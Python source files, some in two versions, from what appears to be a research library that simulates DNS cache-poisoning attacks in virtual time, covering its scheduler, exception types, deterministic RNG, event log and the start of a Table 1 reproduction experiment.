