"""Simulated time and event scheduling.

The whole library runs on virtual time: a :class:`Clock` owns the current
timestamp and a :class:`Scheduler` drives callbacks ordered by (time,
sequence number).  Nothing ever sleeps; advancing time is explicit, which
keeps attack experiments that "take 471 seconds" finishing in milliseconds
of wall-clock.

The scheduler is the single hottest object in the simulator — every
packet delivery, retransmission timer and rate-limit drain goes through
it, and the volume attacks push millions of events per campaign.  Its
queue therefore holds plain lists ``[when, seq, callback, args,
cancelled]`` rather than objects: list comparison runs in C (the unique
``(when, seq)`` prefix decides every heap comparison before the
callback is ever looked at), and ``call_later(delay, fn, *args)``
carries arguments without a closure, so the per-packet cost is one list
and zero lambdas.
"""

from __future__ import annotations

import heapq
import time
from typing import Callable

from repro.core.errors import BudgetExceededError

# Heap entry layout (plain list so heapq compares in C and the
# cancellation flag stays mutable): [when, seq, callback, args, cancelled]
_WHEN = 0
_SEQ = 1
_CALLBACK = 2
_ARGS = 3
_CANCELLED = 4


class Clock:
    """Monotonic virtual clock measured in seconds (float)."""

    __slots__ = ("_now",)

    def __init__(self, start: float = 0.0):
        self._now = float(start)

    @property
    def now(self) -> float:
        """Current virtual time in seconds."""
        return self._now

    def advance_to(self, when: float) -> None:
        """Move the clock forward to ``when``.  Going backwards is an error."""
        if when < self._now:
            raise ValueError(
                f"clock cannot run backwards: now={self._now}, requested={when}"
            )
        self._now = when

    def advance(self, delta: float) -> None:
        """Move the clock forward by ``delta`` seconds."""
        if delta < 0:
            raise ValueError(f"negative clock delta: {delta}")
        self._now += delta


class TimerHandle:
    """Handle returned by :meth:`Scheduler.call_at`; allows cancellation."""

    __slots__ = ("_entry", "_scheduler")

    def __init__(self, entry: list, scheduler: "Scheduler"):
        self._entry = entry
        self._scheduler = scheduler

    def cancel(self) -> None:
        """Prevent the callback from running if it has not run yet."""
        entry = self._entry
        if entry[_CANCELLED]:
            return
        entry[_CANCELLED] = True
        if entry[_CALLBACK] is not None:
            # Still queued: release it and keep the live counter honest.
            # A callback of None means the entry already executed (the
            # run loops clear it), so there is nothing left to uncount —
            # timers routinely get cancelled by their own callback's
            # cleanup path (e.g. a resolver finishing on its last
            # timeout).
            entry[_CALLBACK] = None
            entry[_ARGS] = None
            self._scheduler._pending -= 1

    @property
    def when(self) -> float:
        """Virtual time at which the callback is due."""
        return self._entry[_WHEN]

    @property
    def cancelled(self) -> bool:
        """Whether :meth:`cancel` was called."""
        return self._entry[_CANCELLED]


class Scheduler:
    """Priority-queue event loop over a :class:`Clock`.

    Events scheduled for the same instant run in scheduling order, which
    gives the simulation deterministic tie-breaking.  ``call_at`` /
    ``call_later`` accept positional arguments for the callback so hot
    paths never build closures::

        scheduler.call_later(latency, host.receive, packet)
    """

    __slots__ = ("clock", "_queue", "_seq", "_pending", "executed",
                 "event_budget", "wall_deadline")

    def __init__(self, clock: Clock | None = None):
        self.clock = clock if clock is not None else Clock()
        self._queue: list[list] = []
        self._seq = 0
        self._pending = 0
        # Lifetime event counter plus the optional per-run watchdog (see
        # :meth:`arm_budget`).  Both budgets default to unarmed: the
        # clean fast path pays one boolean test per drained loop, never
        # per event.
        self.executed = 0
        self.event_budget: int | None = None
        self.wall_deadline: float | None = None

    # -- watchdog ----------------------------------------------------------

    def arm_budget(self, max_events: int | None = None,
                   max_wall: float | None = None) -> None:
        """Arm the watchdog: budgets count from *now*.

        ``max_events`` bounds further events executed;  ``max_wall``
        bounds real elapsed seconds (checked every 256 events, so a slow
        callback overshoots by at most one check window).  Exceeding
        either raises :class:`repro.core.errors.BudgetExceededError`
        from the run loop; ``arm_budget()`` with no arguments disarms.
        """
        self.event_budget = None if max_events is None \
            else self.executed + max_events
        self.wall_deadline = None if max_wall is None \
            else time.perf_counter() + max_wall

    def _check_budget(self, extra: int) -> None:
        """Raise if the armed budget is exhausted (``extra`` = events
        executed by the current loop, not yet folded into the total)."""
        budget = self.event_budget
        if budget is not None and self.executed + extra > budget:
            raise BudgetExceededError(
                f"scheduler event budget exhausted: "
                f"{self.executed + extra} events exceed the armed budget"
                f" of {budget}")
        deadline = self.wall_deadline
        if deadline is not None and not (extra & 255) \
                and time.perf_counter() > deadline:
            raise BudgetExceededError(
                f"scheduler wall budget exhausted after "
                f"{self.executed + extra} events")

    def call_at(self, when: float, callback: Callable[..., None],
                *args) -> TimerHandle:
        """Schedule ``callback(*args)`` to run at absolute time ``when``."""
        if when < self.clock._now:
            raise ValueError(
                f"cannot schedule in the past: now={self.clock._now},"
                f" when={when}"
            )
        self._seq = seq = self._seq + 1
        entry = [when, seq, callback, args, False]
        heapq.heappush(self._queue, entry)
        self._pending += 1
        return TimerHandle(entry, self)

    def call_later(self, delay: float, callback: Callable[..., None],
                   *args) -> TimerHandle:
        """Schedule ``callback(*args)`` to run ``delay`` seconds from now."""
        return self.call_at(self.clock._now + delay, callback, *args)

    def schedule(self, delay: float, callback: Callable[..., None],
                 *args) -> None:
        """Fire-and-forget :meth:`call_later` without a handle.

        The per-packet fast path: delivery events are never cancelled,
        so skipping the :class:`TimerHandle` saves one allocation per
        scheduled packet.
        """
        now = self.clock._now
        when = now + delay
        if when < now:
            raise ValueError(
                f"cannot schedule in the past: now={now}, when={when}")
        self._seq = seq = self._seq + 1
        heapq.heappush(self._queue, [when, seq, callback, args, False])
        self._pending += 1

    @property
    def pending(self) -> int:
        """Number of not-yet-cancelled events still queued (O(1))."""
        return self._pending

    def run_next(self) -> bool:
        """Run the earliest pending event.  Returns False if queue is empty."""
        queue = self._queue
        pop = heapq.heappop
        while queue:
            entry = pop(queue)
            if entry[_CANCELLED]:
                continue
            # Mark the entry consumed before invoking, so a handle
            # cancelled from inside its own callback is a no-op.
            callback = entry[_CALLBACK]
            args = entry[_ARGS]
            entry[_CALLBACK] = None
            entry[_ARGS] = None
            self._pending -= 1
            # The heap pops in (when, seq) order and call_at refuses the
            # past, so time is monotone here by construction.
            self.clock._now = entry[_WHEN]
            self.executed += 1
            callback(*args)
            if self.event_budget is not None \
                    or self.wall_deadline is not None:
                self._check_budget(0)
            return True
        return False

    def run_until(self, deadline: float) -> None:
        """Run all events due at or before ``deadline``, then set time to it."""
        queue = self._queue
        pop = heapq.heappop
        clock = self.clock
        guarded = self.event_budget is not None \
            or self.wall_deadline is not None
        executed = 0
        try:
            while queue:
                entry = queue[0]
                if entry[_CANCELLED]:
                    pop(queue)
                    continue
                if entry[_WHEN] > deadline:
                    break
                pop(queue)
                callback = entry[_CALLBACK]
                args = entry[_ARGS]
                entry[_CALLBACK] = None
                entry[_ARGS] = None
                self._pending -= 1
                clock._now = entry[_WHEN]
                callback(*args)
                executed += 1
                if guarded:
                    self._check_budget(executed)
        finally:
            self.executed += executed
        if deadline > clock._now:
            clock._now = deadline

    def run_until_idle(self, max_events: int = 1_000_000) -> int:
        """Run events until the queue drains.  Returns events executed.

        ``max_events`` bounds runaway feedback loops (e.g. two hosts
        ping-ponging retransmissions forever); exceeding it raises.
        """
        executed = 0
        queue = self._queue
        pop = heapq.heappop
        clock = self.clock
        guarded = self.event_budget is not None \
            or self.wall_deadline is not None
        try:
            while queue:
                entry = pop(queue)
                if entry[_CANCELLED]:
                    continue
                callback = entry[_CALLBACK]
                args = entry[_ARGS]
                entry[_CALLBACK] = None
                entry[_ARGS] = None
                self._pending -= 1
                clock._now = entry[_WHEN]
                callback(*args)
                executed += 1
                if executed > max_events:
                    raise RuntimeError(
                        f"scheduler did not go idle after {max_events}"
                        " events"
                    )
                if guarded:
                    self._check_budget(executed)
        finally:
            self.executed += executed
        return executed
