"""Simulated time and event scheduling.

The whole library runs on virtual time: a :class:`Clock` owns the current
timestamp and a :class:`Scheduler` drives callbacks ordered by (time,
sequence number).  Nothing ever sleeps; advancing time is explicit, which
keeps attack experiments that "take 471 seconds" finishing in milliseconds
of wall-clock.
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Callable


class Clock:
    """Monotonic virtual clock measured in seconds (float)."""

    def __init__(self, start: float = 0.0):
        self._now = float(start)

    @property
    def now(self) -> float:
        """Current virtual time in seconds."""
        return self._now

    def advance_to(self, when: float) -> None:
        """Move the clock forward to ``when``.  Going backwards is an error."""
        if when < self._now:
            raise ValueError(
                f"clock cannot run backwards: now={self._now}, requested={when}"
            )
        self._now = when

    def advance(self, delta: float) -> None:
        """Move the clock forward by ``delta`` seconds."""
        if delta < 0:
            raise ValueError(f"negative clock delta: {delta}")
        self._now += delta


@dataclass(order=True)
class _ScheduledCall:
    when: float
    seq: int
    callback: Callable[[], None] = field(compare=False)
    cancelled: bool = field(default=False, compare=False)


class TimerHandle:
    """Handle returned by :meth:`Scheduler.call_at`; allows cancellation."""

    def __init__(self, entry: _ScheduledCall):
        self._entry = entry

    def cancel(self) -> None:
        """Prevent the callback from running if it has not run yet."""
        self._entry.cancelled = True

    @property
    def when(self) -> float:
        """Virtual time at which the callback is due."""
        return self._entry.when

    @property
    def cancelled(self) -> bool:
        """Whether :meth:`cancel` was called."""
        return self._entry.cancelled


class Scheduler:
    """Priority-queue event loop over a :class:`Clock`.

    Events scheduled for the same instant run in scheduling order, which
    gives the simulation deterministic tie-breaking.
    """

    def __init__(self, clock: Clock | None = None):
        self.clock = clock if clock is not None else Clock()
        self._queue: list[_ScheduledCall] = []
        self._seq = itertools.count()

    def call_at(self, when: float, callback: Callable[[], None]) -> TimerHandle:
        """Schedule ``callback`` to run at absolute virtual time ``when``."""
        if when < self.clock.now:
            raise ValueError(
                f"cannot schedule in the past: now={self.clock.now}, when={when}"
            )
        entry = _ScheduledCall(when, next(self._seq), callback)
        heapq.heappush(self._queue, entry)
        return TimerHandle(entry)

    def call_later(self, delay: float, callback: Callable[[], None]) -> TimerHandle:
        """Schedule ``callback`` to run ``delay`` seconds from now."""
        return self.call_at(self.clock.now + delay, callback)

    @property
    def pending(self) -> int:
        """Number of not-yet-cancelled events still queued."""
        return sum(1 for e in self._queue if not e.cancelled)

    def run_next(self) -> bool:
        """Run the earliest pending event.  Returns False if queue is empty."""
        while self._queue:
            entry = heapq.heappop(self._queue)
            if entry.cancelled:
                continue
            self.clock.advance_to(entry.when)
            entry.callback()
            return True
        return False

    def run_until(self, deadline: float) -> None:
        """Run all events due at or before ``deadline``, then set time to it."""
        while self._queue:
            head = self._queue[0]
            if head.cancelled:
                heapq.heappop(self._queue)
                continue
            if head.when > deadline:
                break
            self.run_next()
        if deadline > self.clock.now:
            self.clock.advance_to(deadline)

    def run_until_idle(self, max_events: int = 1_000_000) -> int:
        """Run events until the queue drains.  Returns events executed.

        ``max_events`` bounds runaway feedback loops (e.g. two hosts
        ping-ponging retransmissions forever); exceeding it raises.
        """
        executed = 0
        while self.run_next():
            executed += 1
            if executed > max_events:
                raise RuntimeError(
                    f"scheduler did not go idle after {max_events} events"
                )
        return executed
