"""Exception hierarchy for the reproduction library.

Every error raised by :mod:`repro` derives from :class:`ReproError` so that
callers can catch library failures without masking programming errors such
as :class:`TypeError`.
"""


class ReproError(Exception):
    """Base class for all errors raised by the repro library."""


class ConfigurationError(ReproError):
    """A component was configured with inconsistent or invalid parameters."""


class SimulationError(ReproError):
    """The simulation reached a state that should be impossible.

    Raising this (rather than silently continuing) is how the substrate
    reports internal invariant violations, e.g. a packet routed to a host
    that does not own the destination address when strict delivery is on.
    """


class DropPacket(ReproError):
    """Internal signal used by packet handlers to discard a packet.

    Handlers raise this instead of returning sentinel values; the network
    fabric catches it and accounts the drop.  It is an exception on purpose:
    a dropped packet must abort all further processing of that packet.
    """

    def __init__(self, reason: str):
        super().__init__(reason)
        self.reason = reason


class WireFormatError(ReproError):
    """A packet or DNS message could not be parsed from its byte encoding."""


class ResolutionError(ReproError):
    """A DNS resolution failed (SERVFAIL, timeout, loop, ...)."""

    def __init__(self, message: str, rcode: str = "SERVFAIL"):
        super().__init__(message)
        self.rcode = rcode


class AttackError(ReproError):
    """An attack could not be carried out against the given target."""


class TransientError(ReproError):
    """A failure that may succeed on retry (lock contention, injected
    chaos, a raced resource).

    The campaign run policy (:class:`repro.faults.RunPolicy`) retries
    cells that raise this with bounded backoff before recording them as
    failed; every other exception is terminal for the cell.
    """


class BudgetExceededError(ReproError):
    """A per-cell watchdog budget (scheduler events or wall clock) was
    exhausted before the cell finished.

    Raised by :class:`repro.core.clock.Scheduler` when a budget is
    armed; under a :class:`repro.faults.RunPolicy` the cell becomes a
    recorded failed run instead of killing the grid.
    """


class ScenarioError(ReproError):
    """An attack scenario is malformed or cannot be materialised.

    Raised by :mod:`repro.scenario` for unknown methodology names,
    mismatched attack configs, or unusable trigger specifications.
    """


class NotApplicableError(ScenarioError):
    """The planner found no applicable methodology for a target.

    Carries the full :class:`repro.attacks.planner.ApplicabilityVerdict`
    so callers can inspect *why* each methodology was rejected.
    """

    def __init__(self, message: str, verdict=None):
        super().__init__(message)
        self.verdict = verdict
