"""Exception hierarchy for the reproduction library.

Every error raised by :mod:`repro` derives from :class:`ReproError` so that
callers can catch library failures without masking programming errors such
as :class:`TypeError`.
"""


class ReproError(Exception):
    """Base class for all errors raised by the repro library."""


class ConfigurationError(ReproError):
    """A component was configured with inconsistent or invalid parameters."""


class SimulationError(ReproError):
    """The simulation reached a state that should be impossible.

    Raising this (rather than silently continuing) is how the substrate
    reports internal invariant violations, e.g. a packet routed to a host
    that does not own the destination address when strict delivery is on.
    """


class DropPacket(ReproError):
    """Internal signal used by packet handlers to discard a packet.

    Handlers raise this instead of returning sentinel values; the network
    fabric catches it and accounts the drop.  It is an exception on purpose:
    a dropped packet must abort all further processing of that packet.
    """

    def __init__(self, reason: str):
        super().__init__(reason)
        self.reason = reason


class WireFormatError(ReproError):
    """A packet or DNS message could not be parsed from its byte encoding."""


class ResolutionError(ReproError):
    """A DNS resolution failed (SERVFAIL, timeout, loop, ...)."""

    def __init__(self, message: str, rcode: str = "SERVFAIL"):
        super().__init__(message)
        self.rcode = rcode


class AttackError(ReproError):
    """An attack could not be carried out against the given target."""


class ScenarioError(ReproError):
    """An attack scenario is malformed or cannot be materialised.

    Raised by :mod:`repro.scenario` for unknown methodology names,
    mismatched attack configs, or unusable trigger specifications.
    """


class NotApplicableError(ScenarioError):
    """The planner found no applicable methodology for a target.

    Carries the full :class:`repro.attacks.planner.ApplicabilityVerdict`
    so callers can inspect *why* each methodology was rejected.
    """

    def __init__(self, message: str, verdict=None):
        super().__init__(message)
        self.verdict = verdict
