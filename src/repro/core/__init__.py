"""Shared primitives used by every subsystem.

The core package holds the pieces that do not belong to any one protocol
layer: deterministic randomness, simulated time, structured event logging,
error types and small unit helpers.  Everything else in :mod:`repro` builds
on these.
"""

from repro.core.clock import Clock, Scheduler
from repro.core.errors import (
    ConfigurationError,
    DropPacket,
    ReproError,
    SimulationError,
)
from repro.core.eventlog import Event, EventLog, NullLog
from repro.core.rng import DeterministicRNG, derive_rng

__all__ = [
    "Clock",
    "ConfigurationError",
    "DeterministicRNG",
    "DropPacket",
    "Event",
    "EventLog",
    "NullLog",
    "ReproError",
    "Scheduler",
    "SimulationError",
    "derive_rng",
]
