"""Deterministic randomness for reproducible experiments.

All stochastic behaviour in the library flows through
:class:`DeterministicRNG`, a thin wrapper over :class:`random.Random` that
adds namespaced derivation.  Components never share one RNG stream
directly; instead each derives its own child stream from a label, so the
order in which components consume randomness cannot perturb each other.
This is what makes the Internet-scale measurement benchmarks bit-stable
across runs.
"""

from __future__ import annotations

import hashlib
import random

_sha256 = hashlib.sha256
# The C-level Mersenne seeding, bypassing random.py's seed() wrapper on
# the re-derive fast path (the wrapper's type dispatch is pure overhead
# for an int seed; gauss_next is reset explicitly instead).
_mersenne_seed = random.Random.__bases__[0].seed


class DeterministicRNG(random.Random):
    """A seeded RNG that can spawn independent child streams.

    >>> rng = DeterministicRNG(42)
    >>> child = rng.derive("resolver-ports")
    >>> isinstance(child, DeterministicRNG)
    True

    Two children derived with the same label from the same parent produce
    identical streams; children with different labels are statistically
    independent.
    """

    def __init__(self, seed: int | str | bytes = 0):
        self._seed_material = _seed_bytes(seed)
        super().__init__(int.from_bytes(self._seed_material, "big"))

    def derive(self, label: str) -> "DeterministicRNG":
        """Return a child RNG whose stream depends on ``label`` and our seed.

        Derivation is stateless: it depends only on this RNG's seed
        material, never on how much of its stream has been consumed, so
        children may be derived at any time (or re-derived — see
        :meth:`rederive`) with identical results.
        """
        mixed = hashlib.sha256(self._seed_material + label.encode("utf-8"))
        return DeterministicRNG(mixed.digest())

    def rederive(self, parent: "DeterministicRNG", label: str) -> None:
        """Re-seed *this* RNG in place as ``parent.derive(label)``.

        Bit-identical to building a fresh child — same seed material,
        same Mersenne state, ``gauss_next`` reset by ``seed()`` — but
        without allocating a new generator (whose ``__new__`` also pays
        an urandom seeding).  Population-scale scans derive one RNG per
        entity; re-deriving a scratch generator in place halves that
        per-entity cost.  Only safe when this RNG does not escape the
        current loop iteration.
        """
        material = _sha256(
            _sha256(parent._seed_material + label.encode("utf-8")).digest()
        ).digest()
        self._seed_material = material
        _mersenne_seed(self, int.from_bytes(material, "big"))
        self.gauss_next = None

    def uniform_int(self, low: int, high: int) -> int:
        """Uniform integer from ``[low, high]``, both ends included.

        Bit-identical to ``randint(low, high)`` — this inlines CPython's
        ``_randbelow`` rejection loop to skip three frames of
        ``randint``/``randrange`` overhead on the per-packet and
        per-entity paths.
        """
        width = high - low + 1
        if width <= 0:
            raise ValueError(f"empty range: [{low}, {high}]")
        bits = width.bit_length()
        getrandbits = self.getrandbits
        value = getrandbits(bits)
        while value >= width:
            value = getrandbits(bits)
        return low + value

    def pick_port(self, low: int = 1024, high: int = 65535) -> int:
        """Draw a UDP source port uniformly from ``[low, high]``."""
        width = high - low + 1
        if width <= 0:
            raise ValueError(f"empty range: [{low}, {high}]")
        bits = width.bit_length()
        getrandbits = self.getrandbits
        value = getrandbits(bits)
        while value >= width:
            value = getrandbits(bits)
        return low + value

    def pick_txid(self) -> int:
        """Draw a 16-bit DNS transaction identifier.

        Bit-identical to ``randint(0, 0xFFFF)`` (see :meth:`pick_port`).
        """
        getrandbits = self.getrandbits
        value = getrandbits(17)
        while value >= 0x10000:
            value = getrandbits(17)
        return value

    def chance(self, probability: float) -> bool:
        """Return True with the given probability (clamped to [0, 1])."""
        if probability <= 0.0:
            return False
        if probability >= 1.0:
            return True
        return self.random() < probability


def _seed_bytes(seed: int | str | bytes) -> bytes:
    if isinstance(seed, bytes):
        return hashlib.sha256(seed).digest()
    if isinstance(seed, str):
        return hashlib.sha256(seed.encode("utf-8")).digest()
    return hashlib.sha256(seed.to_bytes(32, "big", signed=True)).digest()


def derive_rng(seed: int | str | bytes, label: str) -> DeterministicRNG:
    """Convenience: build a root RNG from ``seed`` and derive ``label``."""
    return DeterministicRNG(seed).derive(label)
