"""Deterministic randomness for reproducible experiments.

All stochastic behaviour in the library flows through
:class:`DeterministicRNG`, a thin wrapper over :class:`random.Random` that
adds namespaced derivation.  Components never share one RNG stream
directly; instead each derives its own child stream from a label, so the
order in which components consume randomness cannot perturb each other.
This is what makes the Internet-scale measurement benchmarks bit-stable
across runs.
"""

from __future__ import annotations

import hashlib
import random


class DeterministicRNG(random.Random):
    """A seeded RNG that can spawn independent child streams.

    >>> rng = DeterministicRNG(42)
    >>> child = rng.derive("resolver-ports")
    >>> isinstance(child, DeterministicRNG)
    True

    Two children derived with the same label from the same parent produce
    identical streams; children with different labels are statistically
    independent.
    """

    def __init__(self, seed: int | str | bytes = 0):
        self._seed_material = _seed_bytes(seed)
        super().__init__(int.from_bytes(self._seed_material, "big"))

    def derive(self, label: str) -> "DeterministicRNG":
        """Return a child RNG whose stream depends on ``label`` and our seed."""
        mixed = hashlib.sha256(self._seed_material + label.encode("utf-8"))
        return DeterministicRNG(mixed.digest())

    def pick_port(self, low: int = 1024, high: int = 65535) -> int:
        """Draw a UDP source port uniformly from ``[low, high]``."""
        return self.randint(low, high)

    def pick_txid(self) -> int:
        """Draw a 16-bit DNS transaction identifier."""
        return self.randint(0, 0xFFFF)

    def chance(self, probability: float) -> bool:
        """Return True with the given probability (clamped to [0, 1])."""
        if probability <= 0.0:
            return False
        if probability >= 1.0:
            return True
        return self.random() < probability


def _seed_bytes(seed: int | str | bytes) -> bytes:
    if isinstance(seed, bytes):
        return hashlib.sha256(seed).digest()
    if isinstance(seed, str):
        return hashlib.sha256(seed.encode("utf-8")).digest()
    return hashlib.sha256(seed.to_bytes(32, "big", signed=True)).digest()


def derive_rng(seed: int | str | bytes, label: str) -> DeterministicRNG:
    """Convenience: build a root RNG from ``seed`` and derive ``label``."""
    return DeterministicRNG(seed).derive(label)
