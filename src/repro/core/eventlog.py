"""Structured event logging for attack traces and measurements.

The experiments in the paper are narrated as message sequence charts
(Figures 1 and 2).  To regenerate those, every component records
:class:`Event` entries into a shared :class:`EventLog`; the figure benches
then render the log as an ASCII sequence diagram and the tests assert on
the event structure instead of scraping stdout.

Statistical runs — campaigns over thousands of seeds, atlas scans over
millions of entities — never look at a trace, so they attach a
:class:`NullLog` instead: it shares the :class:`EventLog` interface but
``record()`` is a no-op and its ``enabled`` flag lets hot call sites
skip even the *argument construction* (f-string details, data dicts)
of a record call.  Tracing therefore costs nothing when it is off.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterator


@dataclass(frozen=True, slots=True)
class Event:
    """One timestamped occurrence inside the simulation.

    Attributes:
        time: virtual time in seconds.
        actor: the component that recorded the event (e.g. ``"attacker"``).
        kind: machine-readable event type (e.g. ``"icmp.rate_limited"``).
        detail: human-readable one-liner for rendered traces.
        data: structured payload for assertions in tests.
    """

    time: float
    actor: str
    kind: str
    detail: str = ""
    data: dict[str, Any] = field(default_factory=dict)

    # Explicit state protocol: frozen+slots dataclasses only gained
    # working default pickling in Python 3.11, and events cross process
    # boundaries in campaign workers on 3.10 too.
    def __getstate__(self):
        return (self.time, self.actor, self.kind, self.detail, self.data)

    def __setstate__(self, state):
        for name, value in zip(("time", "actor", "kind", "detail", "data"),
                               state):
            object.__setattr__(self, name, value)


class EventLog:
    """Append-only list of :class:`Event` with query helpers.

    ``count()`` and ``of_kind()`` match an exact kind or any dotted
    sub-kind (``"ip"`` matches ``"ip.df_drop"``).  A per-kind index is
    maintained on record, so ``count()`` costs O(distinct kinds) no
    matter how many events the log holds.
    """

    #: Hot call sites check this before building record() arguments.
    enabled = True

    def __init__(self, capacity: int | None = None):
        self._events: list[Event] = []
        self._capacity = capacity
        self._subscribers: list[Callable[[Event], None]] = []
        # kind -> number of *stored* events with exactly that kind.
        self._kind_counts: dict[str, int] = {}

    def record(
        self,
        time: float,
        actor: str,
        kind: str,
        detail: str = "",
        **data: Any,
    ) -> Event:
        """Append an event and notify subscribers; returns the event."""
        event = Event(time=time, actor=actor, kind=kind, detail=detail,
                      data=data)
        if self._capacity is None or len(self._events) < self._capacity:
            self._events.append(event)
            counts = self._kind_counts
            counts[kind] = counts.get(kind, 0) + 1
        for subscriber in self._subscribers:
            subscriber(event)
        return event

    def subscribe(self, callback: Callable[[Event], None]) -> None:
        """Invoke ``callback`` for every subsequently recorded event."""
        self._subscribers.append(callback)

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[Event]:
        return iter(self._events)

    def __getitem__(self, index: int) -> Event:
        return self._events[index]

    def of_kind(self, kind: str) -> list[Event]:
        """All events whose kind equals or starts with ``kind``."""
        prefix = kind + "."
        return [
            e for e in self._events
            if e.kind == kind or e.kind.startswith(prefix)
        ]

    def by_actor(self, actor: str) -> list[Event]:
        """All events recorded by ``actor``."""
        return [e for e in self._events if e.actor == actor]

    def count(self, kind: str) -> int:
        """Number of events matching :meth:`of_kind` (via the kind index)."""
        prefix = kind + "."
        return sum(
            n for stored, n in self._kind_counts.items()
            if stored == kind or stored.startswith(prefix)
        )

    def clear(self) -> None:
        """Drop all stored events (subscribers stay registered)."""
        self._events.clear()
        self._kind_counts.clear()

    def render_sequence(self, actors: list[str] | None = None) -> str:
        """Render the log as an ASCII message-sequence chart.

        Only events carrying ``src``/``dst`` data become arrows; other
        events render as annotations on their actor's lifeline.
        """
        if actors is None:
            seen: list[str] = []
            for event in self._events:
                for name in (event.data.get("src_actor"), event.actor,
                             event.data.get("dst_actor")):
                    if name and name not in seen:
                        seen.append(name)
            actors = seen
        width = 24
        header = "".join(a.center(width) for a in actors)
        lines = [header, "".join("|".center(width) for _ in actors)]
        for event in self._events:
            src = event.data.get("src_actor")
            dst = event.data.get("dst_actor")
            label = f"[{event.time:9.3f}s] {event.detail or event.kind}"
            if src in actors and dst in actors and src != dst:
                i, j = actors.index(src), actors.index(dst)
                lo, hi = min(i, j), max(i, j)
                row = []
                for k, _ in enumerate(actors):
                    if lo <= k < hi:
                        row.append("-" * width)
                    else:
                        row.append("|".center(width))
                arrow = "".join(row)
                point = ">" if j > i else "<"
                pos = (hi * width) - 1 if j > i else lo * width
                arrow = arrow[:pos] + point + arrow[pos + 1:]
                lines.append(arrow)
                lines.append(f"    {label}")
            else:
                lines.append(f"    {label}  ({event.actor})")
        return "\n".join(lines)


class NullLog(EventLog):
    """An :class:`EventLog` that stores nothing — the untraced fast path.

    Campaign and atlas runs attach one of these so per-packet code pays
    no :class:`Event` construction and no append.  The interface is the
    full :class:`EventLog` one (queries return empty results) so code
    holding a log never needs to branch — except hot paths, which check
    ``log.enabled`` first and skip building the record arguments too.
    """

    enabled = False

    def record(self, time: float, actor: str, kind: str, detail: str = "",
               **data: Any) -> None:
        """Drop the event without constructing it (returns ``None``)."""
        return None
