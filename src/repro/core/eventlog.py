"""Structured event logging for attack traces and measurements.

The experiments in the paper are narrated as message sequence charts
(Figures 1 and 2).  To regenerate those, every component records
:class:`Event` entries into a shared :class:`EventLog`; the figure benches
then render the log as an ASCII sequence diagram and the tests assert on
the event structure instead of scraping stdout.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterator


@dataclass(frozen=True)
class Event:
    """One timestamped occurrence inside the simulation.

    Attributes:
        time: virtual time in seconds.
        actor: the component that recorded the event (e.g. ``"attacker"``).
        kind: machine-readable event type (e.g. ``"icmp.rate_limited"``).
        detail: human-readable one-liner for rendered traces.
        data: structured payload for assertions in tests.
    """

    time: float
    actor: str
    kind: str
    detail: str = ""
    data: dict[str, Any] = field(default_factory=dict)


class EventLog:
    """Append-only list of :class:`Event` with query helpers."""

    def __init__(self, capacity: int | None = None):
        self._events: list[Event] = []
        self._capacity = capacity
        self._subscribers: list[Callable[[Event], None]] = []

    def record(
        self,
        time: float,
        actor: str,
        kind: str,
        detail: str = "",
        **data: Any,
    ) -> Event:
        """Append an event and notify subscribers; returns the event."""
        event = Event(time=time, actor=actor, kind=kind, detail=detail, data=data)
        if self._capacity is None or len(self._events) < self._capacity:
            self._events.append(event)
        for subscriber in self._subscribers:
            subscriber(event)
        return event

    def subscribe(self, callback: Callable[[Event], None]) -> None:
        """Invoke ``callback`` for every subsequently recorded event."""
        self._subscribers.append(callback)

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[Event]:
        return iter(self._events)

    def __getitem__(self, index: int) -> Event:
        return self._events[index]

    def of_kind(self, kind: str) -> list[Event]:
        """All events whose kind equals or starts with ``kind``."""
        return [
            e for e in self._events
            if e.kind == kind or e.kind.startswith(kind + ".")
        ]

    def by_actor(self, actor: str) -> list[Event]:
        """All events recorded by ``actor``."""
        return [e for e in self._events if e.actor == actor]

    def count(self, kind: str) -> int:
        """Number of events matching :meth:`of_kind`."""
        return len(self.of_kind(kind))

    def clear(self) -> None:
        """Drop all stored events (subscribers stay registered)."""
        self._events.clear()

    def render_sequence(self, actors: list[str] | None = None) -> str:
        """Render the log as an ASCII message-sequence chart.

        Only events carrying ``src``/``dst`` data become arrows; other
        events render as annotations on their actor's lifeline.
        """
        if actors is None:
            seen: list[str] = []
            for event in self._events:
                for name in (event.data.get("src_actor"), event.actor,
                             event.data.get("dst_actor")):
                    if name and name not in seen:
                        seen.append(name)
            actors = seen
        width = 24
        header = "".join(a.center(width) for a in actors)
        lines = [header, "".join("|".center(width) for _ in actors)]
        for event in self._events:
            src = event.data.get("src_actor")
            dst = event.data.get("dst_actor")
            label = f"[{event.time:9.3f}s] {event.detail or event.kind}"
            if src in actors and dst in actors and src != dst:
                i, j = actors.index(src), actors.index(dst)
                lo, hi = min(i, j), max(i, j)
                row = []
                for k, _ in enumerate(actors):
                    if lo <= k < hi:
                        row.append("-" * width)
                    else:
                        row.append("|".center(width))
                arrow = "".join(row)
                point = ">" if j > i else "<"
                pos = (hi * width) - 1 if j > i else lo * width
                arrow = arrow[:pos] + point + arrow[pos + 1:]
                lines.append(arrow)
                lines.append(f"    {label}")
            else:
                lines.append(f"    {label}  ({event.actor})")
        return "\n".join(lines)
