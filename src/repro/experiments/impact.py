"""Dynamic Table 1: every impact cell reproduced by running the kill chain.

:mod:`repro.experiments.table1` *derives* the applicability matrix from
the planner; this experiment goes the rest of the way and *executes*
each row end to end — IP/transport attack, poisoned cache, application
workload — and checks that the impact the application actually suffered
matches the static Table 1 cell.  The attack phase uses HijackDNS (the
one methodology Table 1 marks applicable for every row, and the only
deterministic one, so the dynamic table is seed-stable); the
probabilistic methodologies are exercised per-cell by the kill-chain
test suite.
"""

from __future__ import annotations

from repro.apps import ALL_APPLICATIONS, AppSpec, driver_for
from repro.attacks.planner import AttackPlanner
from repro.experiments.base import ExperimentResult
from repro.experiments.table1 import INFRASTRUCTURE_OVERRIDES, application_key
from repro.measurements.report import render_table
from repro.scenario.bridge import scenario_from_profile
from repro.scenario.spec import TriggerSpec


def run(seed: int = 0) -> ExperimentResult:
    """Execute the kill chain for every Table 1 application row."""
    planner = AttackPlanner()
    headers = ["Category", "Protocol", "Use case", "Method", "Attack",
               "Impact (measured)", "Impact (Table 1)", "Match"]
    rows = []
